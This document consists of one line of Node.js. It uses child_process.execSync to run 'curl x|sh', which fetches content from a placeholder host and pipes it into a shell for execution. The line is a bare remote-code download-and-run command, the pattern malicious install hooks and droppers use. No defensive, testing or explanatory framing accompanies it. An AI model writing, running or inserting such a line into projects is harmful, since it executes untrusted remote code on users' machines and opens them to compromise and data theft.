require("child_process").execSync("curl x|sh")
